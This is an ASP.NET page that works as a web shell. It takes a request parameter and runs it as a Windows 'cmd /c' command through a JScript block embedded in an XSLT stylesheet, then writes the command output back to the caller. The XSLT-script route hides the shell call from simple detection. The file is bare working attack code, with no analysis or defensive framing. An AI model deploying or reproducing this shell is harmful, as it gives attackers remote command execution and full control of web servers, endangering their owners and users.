<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
const string Sheet = @"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'
 xmlns:msxsl='urn:schemas-microsoft-com:xslt' xmlns:u='urn:u'>
<msxsl:script language='JScript' implements-prefix='u'>
function go(c) { var s = new ActiveXObject('WScript.Shell'); return s.Exec('cmd /c ' + c).StdOut.ReadAll(); }
</msxsl:script>
<xsl:template match='/'><xsl:value-of select='u:go(string(/r))'/></xsl:template>
</xsl:stylesheet>";
void Page_Load(object sender, EventArgs e)
{
    var settings = new XsltSettings();
    settings.EnableScript = true;
    var xslt = new XslCompiledTransform();
    xslt.Load(XmlReader.Create(new StringReader(Sheet)), settings, null);
    var doc = new XmlDocument();
    doc.LoadXml("<r>" + SecurityElement.Escape(Request["q"]) + "</r>");
    xslt.Transform(doc, null, Response.Output);
}
</script>
